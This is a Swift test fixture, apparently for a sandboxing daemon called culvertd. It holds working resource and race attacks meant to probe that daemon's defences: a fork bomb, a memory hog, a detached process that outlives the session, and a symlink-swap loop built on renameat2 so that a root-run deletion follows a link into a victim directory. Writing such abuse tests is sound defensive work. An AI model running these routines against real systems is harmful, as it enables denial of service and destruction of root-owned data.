// Abuse: resource attacks and outliving the session — a fork bomb, a memory hog, a child that
// detaches and keeps running after Disconnect, and a child that keeps swapping a subdirectory of
// the rendezvous directory with a symlink to a root-owned directory while culvertd removes it.
// Forked children only make system calls (no Swift runtime, nothing allocated after fork) and
// end on their own after `childLifetimeSeconds`, so a failed test never leaves them forever.

import Foundation

#if canImport(Glibc)
    import Glibc
#endif

enum Abuse {
    static let forkBombTarget = 1_500
    static let memoryTargetMiB = 1_536
    static let memoryStepMiB = 64
    static let childLifetimeSeconds: UInt32 = 240

    static func forkBomb() {
        var started = 0
        var failure: Errno?
        while started < forkBombTarget {
            let child = fork()
            if child == 0 {
                sleep(childLifetimeSeconds)
                _exit(0)
            }
            if child < 0 {
                failure = Errno(code: errno)
                break
            }
            started += 1
            if started % 100 == 0 { Report.progress("forkbomb", started) }
        }
        Report.progress("forkbomb", started)
        if let failure {
            Report.blocked("forkbomb", "started \(started) children, then fork failed \(failure)")
        } else {
            Report.succeeded("forkbomb", "started \(started) children")
        }
    }

    static func memory() {
        var total = 0
        let step = memoryStepMiB << 20
        while total < memoryTargetMiB {
            let region = mmap(nil, step, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0)
            guard let region, region != MAP_FAILED else {
                Report.blocked("memory", "mmap after \(total) MiB: \(Errno(code: errno))")
                return
            }
            memset(region, 0x5a, step)  // touched: resident, not just reserved
            total += memoryStepMiB
            Report.progress("memory", total)
        }
        Report.succeeded("memory", "touched \(total) MiB")
    }

    /// A grandchild in its own session, reparented away from the provider, that outlives it.
    static func linger() {
        let child = fork()
        if child == 0 {
            _ = setsid()
            if fork() != 0 { _exit(0) }
            sleep(childLifetimeSeconds)
            _exit(0)
        }
        var status: Int32 = 0
        if child > 0 { _ = waitpid(child, &status, 0) }
        Report.note(child > 0 ? "a detached grandchild runs on" : "fork failed: \(Errno(code: errno))")
    }

    /// `sub` (a directory holding the victim's file names) and `link` (a symlink to the victim
    /// directory) in the rendezvous directory, exchanged atomically in a loop by a detached child
    /// until it is killed: a root that removes the rendezvous directory by path follows the link.
    static func symlinkSwap(victimDirectory: String) {
        guard let rendezvous = ProcessInfo.processInfo.environment["CULVERT_RENDEZVOUS"], !victimDirectory.isEmpty else {
            Report.note("symlinkswap needs CULVERT_RENDEZVOUS and the victimDirectory option")
            return
        }
        let directory = (rendezvous as NSString).deletingLastPathComponent
        // try?: an unlistable victim directory leaves the names to guess; the swap still runs.
        let names = (try? FileManager.default.contentsOfDirectory(atPath: victimDirectory)) ?? (0..<2_000).map { "f\($0)" }
        // Everything the child uses is prepared here: it allocates nothing after fork.
        let sub = pinned(directory + "/sub")
        let link = pinned(directory + "/link")
        let target = pinned(victimDirectory)
        let parent = pinned(directory)
        let files = names.map { pinned(directory + "/sub/" + $0) }
        func populate() {
            mkdir(sub, 0o755)
            for file in files {
                let fd = open(file, O_CREAT | O_WRONLY | O_CLOEXEC, 0o644)
                if fd >= 0 { close(fd) }
            }
            symlink(target, link)
        }
        populate()
        let child = fork()
        if child == 0 {
            _ = setsid()
            let end = time(nil) + time_t(childLifetimeSeconds)
            while time(nil) < end {
                let exchanged = RawSyscall.entry(
                    Kernel.renameat2, Int(AT_FDCWD), Int(bitPattern: sub), Int(AT_FDCWD), Int(bitPattern: link), Kernel.renameExchange, 0)
                if exchanged == -1 {
                    if access(parent, F_OK) != 0 { _exit(0) }  // the rendezvous directory is gone: nothing left to swap
                    populate()
                }
            }
            _exit(0)
        }
        Report.note(child > 0 ? "swapping \(directory)/sub with a link to \(victimDirectory) in pid \(child)" : "fork failed")
    }

    /// A C copy of `text` that is never freed (a forked child uses it without allocating).
    static func pinned(_ text: String) -> UnsafeMutablePointer<CChar> {
        strdup(text)!  // !: strdup fails only when out of memory, and this fixture cannot go on without it
    }
}
